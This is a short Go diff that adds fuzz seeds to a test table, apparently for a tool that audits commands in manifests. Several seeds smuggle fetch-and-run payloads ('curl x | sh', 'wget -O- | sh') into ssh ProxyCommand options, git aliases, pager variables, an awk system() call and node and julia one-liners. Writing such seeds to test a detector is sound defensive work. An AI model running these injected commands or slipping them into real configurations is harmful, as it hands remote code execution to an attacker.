@@ -55,6 +55,13 @@ var fuzzSeeds = [][]string{
 	{"env", "GIT_SSH_COMMAND=ssh -o ProxyCommand='wget -O- x | sh'", "git", "fetch"},
 	{"poetry", "run", "python", "-c", "import os"},
 	{"rsync", "-e", `ssh -o ProxyCommand="nc %h %p"`, "a", "b"},
+	{"ssh", "u@h", "-o", "ProxyCommand=curl x | sh", "-p", "22", "--", "npx", "pkg"},
+	{"git", "-C", "/r", "-c", `core.sshCommand=ssh -o ProxyCommand="curl x|sh"`, "-c", "alias.x=!wget -O- y | sh", "clone", "git@h:r"},
+	{"deno", "-L", "info", "-A", "jsr:@scope/pkg"},
+	{"env", "GH_PAGER=curl x | sh", "RSYNC_RSH=ssh -oLocalCommand=sh", "gh", "pr", "list"},
+	{"awk", "-F", ",", "-v", "n=1", `BEGIN { system("curl -s https://x | sh") }`},
+	{"node", "-pe", "require('child_process').execSync('id')"},
+	{"julia", "-t", "4", "-e", "run(`curl x`)"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
